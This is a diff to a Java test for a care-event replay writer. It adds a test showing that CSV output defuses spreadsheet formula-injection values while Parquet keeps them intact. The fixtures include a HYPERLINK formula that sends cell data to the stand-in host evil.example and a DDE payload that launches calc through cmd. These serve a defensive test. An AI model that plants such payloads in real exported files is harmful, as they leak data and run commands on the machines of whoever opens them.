@@ -31,8 +31,9 @@ class DuckDbWriterTest {
         try (ReplayWriter writer = ReplayWriter.open(format, out)) {
             long offset = 0;
             for (SpecificRecord record : records) {
-                writer.write(ReplayRow.of(CareEventType.of(record).topic(), 0, offset++, AT.plusSeconds(offset), record),
-                        record);
+                var line = ReplayRow.line(record);
+                writer.write(ReplayRow.of(CareEventType.of(record).topic(), 0, offset++, AT.plusSeconds(offset), line),
+                        line);
             }
             writer.finish();
         }
@@ -95,5 +96,28 @@ class DuckDbWriterTest {
         List<String> lines = Files.readAllLines(out);
         assertThat(lines).hasSize(1);
         assertThat(CareEventJson.parseEvent(lines.get(0)).event()).isEqualTo(admission);
+    }
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAreDefusedAndParquetKeepsThem() throws Exception {
+        var admission = ReplayFixtures.admission(ALICE, AT);
+        admission.setWard("=HYPERLINK(\"http://evil.example/?\"&A1,\"Ward 7\")");
+        admission.getHeader().getSource().setName("@SUM(1+1)*cmd|' /C calc'!A0");
+        admission.getHeader().getSource().setSystem("-2+3");
+        Path csv = dir.resolve("hostile.csv");
+        Path parquet = dir.resolve("hostile.parquet");
+        write(ReplayFormat.CSV, csv, List.of(admission));
+        write(ReplayFormat.PARQUET, parquet, List.of(admission));
+
+        String text = Files.readString(csv);
+        assertThat(text).contains(",'@SUM(1+1)*cmd|' /C calc'!A0,", ",'-2+3,");
+        assertThat(text).doesNotContain(",@SUM", ",-2+3", ",=HYPERLINK");
+        try (Connection duck = DriverManager.getConnection("jdbc:duckdb:"); Statement sql = duck.createStatement();
+                ResultSet r = sql.executeQuery("SELECT source_name, json_extract_string(body, '$.ward') FROM "
+                        + "read_parquet('" + parquet + "')")) {
+            assertThat(r.next()).isTrue();
+            assertThat(r.getString(1)).isEqualTo("@SUM(1+1)*cmd|' /C calc'!A0");
+            assertThat(r.getString(2)).startsWith("=HYPERLINK");
+        }
     }
 }
